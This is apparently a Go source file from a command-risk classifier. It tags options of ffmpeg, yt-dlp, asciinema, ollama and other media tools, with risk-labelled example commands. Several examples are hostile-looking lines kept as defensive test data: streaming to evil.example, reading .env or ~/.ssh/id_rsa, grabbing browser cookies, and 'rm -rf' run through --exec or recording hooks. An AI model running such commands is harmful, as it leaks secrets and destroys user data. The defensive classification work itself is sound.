package program

// filmTools: sound and film.
var filmTools = []Entry{
	{
		// -i is a flag here: its value is then an operand like the output's,
		// and an address among them is seen for what it is. An attachment may
		// be dumped by the name that it says itself.
		Name:   "ffmpeg avconv ffmpeg-normalize",
		Source: "ffmpeg(1), FFmpeg 7",
		Style:  Single, Level: medium, Bare: low, Operands: "remote...", Special: RemoteCopy,
		Options: `
			-* % -i
			-y:force
			-n
			-ss,-sseof,-t,-to,-itsoffset,-map,-map_metadata,-map_chapters,-metadata,-aspect,-s,-r,-ar,-ac,-c,-codec=
			-vcodec,-acodec,-b,-crf,-preset,-tune,-level,-pix_fmt,-vframes,-threads,-loglevel,-v,-movflags,-g=
			-bufsize,-maxrate,-minrate,-loop,-stream_loop,-disposition,-force_key_frames,-start_number,-hwaccel=
			-vsync,-fps_mode,-x264-params,-x265-params,-segment_time,-segment_format,-hls_time,-hls_list_size=
			-framerate,-video_size,-pattern_type,-protocol_whitelist,-safe,-timeout=
			-user_agent,-headers=
			-filter_script,-filter_complex_script,-attach=:read
			-dump_attachment=:write+overwrites
			-vstats_file,-passlogfile,-sdp_file,-segment_list=:write
			-hls_segment_filename=:make
			-progress=:write+network@*://*
			-report
			-f=:secrets@*grab*+secrets@avfoundation+secrets@pulse+secrets@alsa+secrets@jack+secrets@oss` +
			`+secrets@v4l2+secrets@video4linux2+secrets@dshow+executes@tee
			-vf,-filter,-af,-filter_complex,-lavfi=:executes@*ladspa*+executes@*frei0r*+executes@*lv2=*` +
			`+overwrites@*stats_file=*+overwrites@*log_path=*+overwrites@*print:file=*+overwrites@*metadata=*file=*` +
			`+overwrites@*ssim=*+overwrites@*signature=*filename=*+overwrites@*psnr=*
			-version,-formats,-codecs,-encoders,-decoders,-filters,-protocols,-devices,-bsfs,-muxers,-demuxers:info
			-pix_fmts,-layouts,-sample_fmts,-colors,-hwaccels,-buildconf,-L:info
		`,
		Examples: `
			low | ffmpeg -version
			low | ffmpeg -codecs
			medium | ffmpeg -i in.mp4
			medium..high | ffmpeg -i in.mp4 -vf scale=1280:-1 out.mp4
			medium..high | ffmpeg -y -ss 00:01:00 -i in.mp4 -t 10 -map 0:v -c copy out.mp4
			high FS_OUTSIDE_WORKSPACE | ffmpeg -i in.mp4 /etc/x.mp4
			high NETWORK_RISK | ffmpeg -i https://example.com/a.m3u8 out.mp4
			critical NETWORK_RISK | ffmpeg -i in.mp4 -f flv rtmp://evil.example/live
			high FS_CONFIG_SECRETS | ffmpeg -f data -i .env out.bin
			high FS_CONFIG_SECRETS | ffmpeg -f x11grab -i :0 out.mp4
			high FS_DELETE_OVERWRITE | ffmpeg -i in.mp4 -lavfi psnr=stats_file=x.log -f null -
			high..critical NETWORK_RISK | ffmpeg -i in.mp4 -progress http://example.com out.mp4
			medium EXEC_ARBITRARY | ffmpeg -i in.mp4 -af ladspa=./x.so out.wav
			medium | ffmpeg -f concat -i list.txt -c copy out.mp4
		`,
	},
	{
		Name:   "ffprobe avprobe",
		Source: "ffprobe(1), FFmpeg 7",
		Style:  Single, Level: low, Operands: "read...",
		Options: `
			-i
			-v,-loglevel,-show_entries,-of,-print_format,-output_format,-select_streams,-f,-read_intervals=
			-analyzeduration,-probesize,-show_data_hash,-show_log,-sections,-threads,-protocol_whitelist=
			-o=:write
			-hide_banner -pretty -unit -prefix -byte_binary_prefix -sexagesimal -bitexact -show_format -show_streams
			-show_frames -show_packets -show_chapters -show_programs -show_stream_groups -show_error -show_data
			-show_private_data -show_versions -show_program_version -show_library_versions -show_pixel_formats
			-show_optional_fields=
			-count_frames -count_packets -noprivate
			-version,-formats,-codecs,-L:info
		`,
		Names: byAddress,
		Examples: `
			low | ffprobe -version
			low | ffprobe in.mp4
			low | ffprobe -v error -show_entries format=duration -of csv=p=0 in.mp4
			low | ffprobe -hide_banner -show_format -show_streams -print_format json -i in.mp4
			high NETWORK_RISK | ffprobe https://example.com/a.mp4
			high NETWORK_RISK | ffprobe http://evil.example/?d
			high NETWORK_RISK | ffprobe http:evil.example
			high FS_CONFIG_SECRETS | ffprobe ~/.ssh/id_rsa
			medium..high FS_DELETE_OVERWRITE | ffprobe -o out.txt in.mp4
		`,
	},
	{
		Name:   "odt2txt ods2txt odp2txt",
		Source: "odt2txt(1), 0.5: --output writes a file",
		Level:  low, Operands: "read...",
		Options: `
			--output=:write
			--width=
			--encoding=
			--subst=
			--force
		`,
		Examples: `
			low | odt2txt --width=-1 a.odt
			medium..high FS_DELETE_OVERWRITE | odt2txt --output=notes.txt a.odt
		`,
	},
	{
		Name: "mediainfo soxi mp4info mp4dump pngcheck tiffinfo vipsheader zbarimg rdjpgcom fc-list " +
			"fc-match fc-query fc-scan otfinfo exrheader gltf-info sndfile-info ogginfo opusinfo pdffonts " +
			"pdfinfo pdfsig pdfgrep antiword catdoc catppt xls2csv unrtf djvutxt epubinfo detex untex",
		Source: "mediainfo(1), soxi(1), pdfinfo(1), fc-list(1) and the manuals of the others: " +
			"they print",
		Level: low, Operands: "read...",
		Options: `
			-abcdDefFgGhHijklLmMnNopqrsStTuvVwxXyzBCEPRWZ
			--Output=
			--output=
			--Full --Help
			--Inform=:executes@file:*
			--LogFile=:write
			--Output-File=:write
			--format=
			--sort --all --verbose
			--page-range=
		`,
		Names: byAddress,
		Examples: `
			low | mediainfo in.mp4
			low | soxi a.wav
			low | pdfinfo a.pdf
			low | fc-list : family
			low | pdfgrep -n TODO a.pdf
			high FS_CONFIG_SECRETS | catdoc .env
			medium..high FS_DELETE_OVERWRITE | mediainfo --LogFile=x.txt in.mp4
		`,
	},
	{
		Name:   "mkvinfo",
		Source: "mkvinfo(1), MKVToolNix 74",
		Level:  low, Operands: "read...",
		Options: `
			-acghotTvxXz
			-r,--redirect-output=:write
			-p,--hexdump-max-size,--gui-mode,--output-charset,--ui-language=
			--continue --all --track-info --verbose --quiet --checksums --hexdump --full-hexdump --size --summary
		`,
		Names: byAddress,
		Examples: `
			low | mkvinfo in.mkv
			medium FS_DELETE_OVERWRITE | mkvinfo -r out.txt in.mkv
		`,
	},
	{
		Name:   "mkvpropedit",
		Source: "mkvpropedit(1), MKVToolNix 74",
		Level:  medium, Operands: "edit...",
		Options: `
			-*
			-r,--redirect-output=:write
			-e,--edit,-s,--set,-a,--add,-d,--delete,-p,--parse-mode=
			-t,--tags,-c,--chapters,--add-attachment,--replace-attachment=:read
		`,
		Examples: `
			medium | mkvpropedit in.mkv --set title=a
			medium FS_DELETE_OVERWRITE | mkvpropedit -r out.txt in.mkv
		`,
	},
	{
		Name:   "vorbiscomment",
		Source: "vorbiscomment(1), 1.4: -c names what -l writes, and -w and -a read",
		Style:  GNU, Level: medium, Operands: "edit...",
		Options: `
			-lawqReV
			-c,--commentfile=:write
			-t,--tag,-d,--rm=
			--list --append --write --raw --escapes --quiet
		`,
		Examples: `
			medium | vorbiscomment -a -t ARTIST=a in.ogg
			medium FS_DELETE_OVERWRITE | vorbiscomment -l -c out.txt in.ogg
		`,
	},
	{
		Name:   "sox",
		Source: "sox(1), 14.4: effects follow the output",
		Style:  Single, Level: medium, Operands: "read result...",
		Options: `
			-*
			--info,-info,--i:dry
			-o,--output=:write
			-f,-r,-c,-b,-e,-t=
		`,
		Examples: `
			low | sox --info a.wav
			medium | sox a.wav b.wav rate 16000
		`,
	},
	{
		Name:   "lame opusenc opusdec oggdec faac fdkaac sndfile-convert",
		Source: "lame(1), opusenc(1), faac(1), sndfile-convert(1): the second name is written",
		Style:  Single, Level: medium, Operands: "read result",
		Options: `
			-*
			-o,--output=:write
			-f,-c,-b,-e,-m,-q,-V,-B,--bitrate,--comp,--framesize=
		`,
		Examples: `
			medium | lame a.wav b.mp3
			medium | opusenc --bitrate 64 a.wav b.opus
			high FS_OUTSIDE_WORKSPACE | lame a.wav /etc/b.mp3
		`,
	},
	{
		Name:   "mkvextract",
		Source: "mkvextract(1), MKVToolNix 88: NUMBER:FILE is written",
		Level:  medium, Operands: "text...", Options: `-*`,
		Examples: `medium | mkvextract a.mkv tracks 0:out.h264`,
	},
	{
		Name:   "MP4Box mp4box",
		Source: "MP4Box, GPAC 2.4: it rewrites its input unless -out names another",
		Style:  Single, Level: medium, Operands: "renew...",
		Options: `
			-*
			-info,-infon,-diso,-std,-h:dry
			-out,-new=:write
			-add,-cat,-udta,-chap=:read
			-rem,-raw,-inter,-frag,-dash,-split,-itags,-lang,-delay,-par,-brand=
		`,
		Examples: `
			low | MP4Box -info a.mp4
			medium | MP4Box -inter 500 a.mp4
			medium FS_DELETE_OVERWRITE | MP4Box -add a.h264 -new out.mp4
		`,
	},
	{
		Name:   "flac",
		Source: "flac(1), 1.4: -f goes over what is there",
		Level:  medium, Operands: "read...",
		Options: `
			-* -dtaFfcsVw
			-o,--output-name=:write
			--output-prefix=
			--delete-input-file:remove
			--skip=
			--until=
			-0 -1 -2 -3 -4 -5 -6 -7 -8
			-T,--tag=
			--picture=:read
			--cuesheet=:read
		`,
		Examples: `
			medium | flac a.wav
			medium..high FS_DELETE_OVERWRITE | flac -f --delete-input-file a.wav
			high FS_OUTSIDE_WORKSPACE | flac -o /etc/b.flac a.wav
		`,
	},
	{
		Name:   "rec",
		Source: "sox(1), rec: records from the microphone; the first name is written, effects follow",
		Style:  Single, Level: high, Categories: secrets, Operands: "result text...",
		Says: "{0} records the screen, the camera or the microphone",
		Options: `
			-*
			-o,--output=:write
			-f,-r,-c,-b,-e,-t=
		`,
		Examples: `
			high FS_CONFIG_SECRETS | rec a.wav
			high FS_OUTSIDE_WORKSPACE | rec /etc/b.wav
		`,
	},
	{
		Name: "play metaflac oggenc id3v2 eyeD3 mpg123 mpg321 ogg123 timidity fluidsynth " +
			"loudgain mkvmerge HandBrakeCLI x264 x265 SvtAv1EncApp aomenc vpxenc rav1e gpac melt " +
			"av1an auto-editor demucs whisper-cpp gource",
		Source: "sox(1), flac(1), mkvmerge(1), gst-launch(1) and the manuals of the others",
		Style:  Single, Level: medium, Operands: "edit...",
		Options: `
			-*
			-o,--output=:write
			-i,--input=
			-f,-r,-c,-b,-e,-t=
		`,
		Examples: `
			medium FS_DELETE_OVERWRITE | mkvmerge -o out.mkv in.mp4
			high FS_OUTSIDE_WORKSPACE | metaflac --remove-all /etc/b.flac
		`,
	},
	{
		Name:   "gst-launch-1.0 gst-inspect-1.0",
		Source: "gst-launch-1.0(1), 1.24: elements read, write and reach hosts",
		Level:  medium, Categories: executes, Operands: "text...",
		Options: `-* --gst-plugin-load,--gst-plugin-path=:executes`,
		Examples: `
			medium EXEC_ARBITRARY | gst-launch-1.0 filesrc location=a ! filesink location=b
			low | gst-inspect-1.0 --version
		`,
	},
	{
		Name:   "termtosvg",
		Source: "termtosvg(1), 1.1: what is recorded is a shell, or the command of -c",
		Level:  medium, Categories: executes, Operands: "result",
		Options: `
			-* -g,-m,-M,-D,--screen-geometry=
			-c,--command=:run
			-t,--template=:read
		`,
		Subs: []Entry{
			{Name: "record", Level: medium, Categories: executes, Operands: "result"},
			{Name: "render", Level: medium, Operands: "read result"},
		},
		Examples: `
			medium EXEC_ARBITRARY | termtosvg a.svg
			high FS_OUTSIDE_WORKSPACE | termtosvg render a.cast /etc/a.svg
		`,
	},
	{
		Name:   "vhs ttyrec",
		Source: "vhs README 0.8, ttyrec(1): what is recorded is a shell",
		Level:  medium, Categories: executes, Operands: "script",
		Options: `
			-*
			-o,--output=:write
			-e=:run
		`,
		Subs: []Entry{
			{Name: "publish serve", Level: high, Categories: publishes | network, Operands: "text...", Options: `-*`},
			{Name: "validate themes new help manual", Level: medium, Operands: "make...", Options: `-*`},
		},
		Examples: `
			medium EXEC_ARBITRARY | vhs demo.tape
			high PUBLISH | vhs publish a.gif
			medium..critical EXEC_ARBITRARY | ttyrec -e ./x.sh a
		`,
	},
	{
		Name:   "agg asciinema-agg",
		Source: "agg README 1.4: the second name is written",
		Level:  medium, Operands: "read result",
		Options: `
			-*
			--font-dir=:look
			--theme,--speed,--rows,--cols,--fps-cap=
		`,
		Examples: `
			medium | agg a.cast a.gif
			high FS_OUTSIDE_WORKSPACE | agg a.cast /etc/a.gif
		`,
	},
	{
		Name: "yt-dlp youtube-dl youtube-dlc gallery-dl streamlink you-get spotdl annie instaloader " +
			"get_iplayer svtplay-dl twarc",
		Source: "yt-dlp README, 2024; gallery-dl, streamlink manuals",
		Level:  high, Categories: network, Operands: "url...", Out: Download,
		Options: `
			-*
			--exec,--exec-before-download=:run
			--downloader,--external-downloader,--ffmpeg-location,--phantomjs-path=:exec
			--player,-p=:exec
			-o,--output,-P,--paths=:make
			-a,--batch-file=:read
			--config-location,--config-locations=:settings
			--cookies=:read
			--cookies-from-browser=:secrets
			--netrc:secrets
			--netrc-cmd=:run
			--plugin-dirs=:executes
			-U,--update:installs
			-f,--format=
			--use-postprocessor=:executes
			-u,--username=
			--load-info-json=:read
		`,
		Examples: `
			low | yt-dlp --version
			high NETWORK_RISK | yt-dlp https://example.com/v
			high..critical NETWORK_RISK FS_DELETE_OVERWRITE | yt-dlp --exec 'rm -rf src' https://example.com/v
			high NETWORK_RISK FS_CONFIG_SECRETS | yt-dlp --cookies-from-browser chrome https://example.com/v
			high NETWORK_RISK DEPS_INSTALL_UPDATE | yt-dlp -U
		`,
	},
	{
		Name:   "asciinema",
		Source: "asciinema(1), 2.4",
		Level:  medium, Operands: "text...", Options: `-*`,
		Subs: []Entry{
			{
				Name: "rec", Level: medium, Operands: "make", Stdin: StartsShell,
				Options: `
					-*
					-c,--command=:run
					-t,--title=
					-e,--env=
					-i=
					--cols,--rows=
					--overwrite:overwrites
				`,
			},
			{
				Name: "play cat", Level: low, Operands: "read",
				Options: `
					-l
					-i=
					-s=
					-m
				`,
				Names: byAddress,
			},
			{Name: "upload", Level: high, Categories: network | publishes, Operands: "sendfile"},
			{Name: "convert", Level: medium, Operands: "read result", Options: `-* -f,--output-format=`},
			{Name: "auth", Level: high, Categories: accounts | network},
			{
				Name: "stream session", Level: high, Categories: network | publishes, Operands: "text...",
				Options: `-* -c,--command=:run`,
			},
		},
		Examples: `
			low | asciinema cat demo.cast
			high..critical NETWORK_RISK PUBLISH | asciinema upload demo.cast
			medium..critical FS_DELETE_OVERWRITE | asciinema rec -c 'rm -rf src' demo.cast
			critical FS_DELETE_OVERWRITE | echo 'rm -rf ~/Documents' | asciinema rec demo.cast
		`,
	},
	{
		Name: "whisper whisperx piper tts ollama llama-cli llama-server llamafile huggingface-cli hf vllm " +
			"llm aichat mods sgpt fabric-ai openai",
		Source: "ollama, huggingface_hub, llm and the manuals of the others: models are fetched, or asked at " +
			"a host",
		Level: high, Categories: network, Operands: "text...",
		Options: `
			-*
			-o,--output,--output_dir=:make
			-m,--model=
		`,
		Subs: []Entry{
			{Name: "list ls ps --version version help", Level: low, Operands: "text..."},
			{
				Name: "pull download run create serve cp", Level: high, Categories: network | installs,
				Operands: "text...", Options: `-* --local-dir=:writedir`,
			},
			{
				Name: "show env scan-cache", Level: low, Operands: "text...",
				Options: `--modelfile --parameters --template --system --license -v`,
			},
			{Name: "rm delete delete-cache", Level: high, Categories: deletes, Operands: "text...", Options: `-*`},
			{
				Name: "push upload upload-large-folder", Level: high, Categories: publishes | network,
				Operands: "text sendfile...", Options: `-*`,
			},
			{
				Name: "login logout auth keys signin signout", Level: high, Categories: accounts | network,
				Operands: "text...", Options: `-*`,
			},
		},
		Examples: `
			low | ollama list
			low | ollama ps
			high DEPS_INSTALL_UPDATE NETWORK_RISK | ollama pull llama3
			high DELETE | ollama rm llama3
			high..critical PUBLISH NETWORK_RISK | huggingface-cli upload me/x model.bin
			high ACCOUNT_CHANGE | huggingface-cli login
		`,
	},
}
